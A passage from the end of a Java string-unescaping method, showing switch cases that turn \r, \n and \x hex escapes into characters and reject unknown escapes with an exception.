        case 'r' -> out.append('\r');
        case 'n' -> out.append('\n');
        case 'x' -> {
          out.append((char) Integer.parseInt(text.substring(i + 1, i + 3), 16));
          i += 2;
        }
        default -> throw new IllegalArgumentException("bad escape \\" + next);
      }
    }
    return out.toString();
  }
}
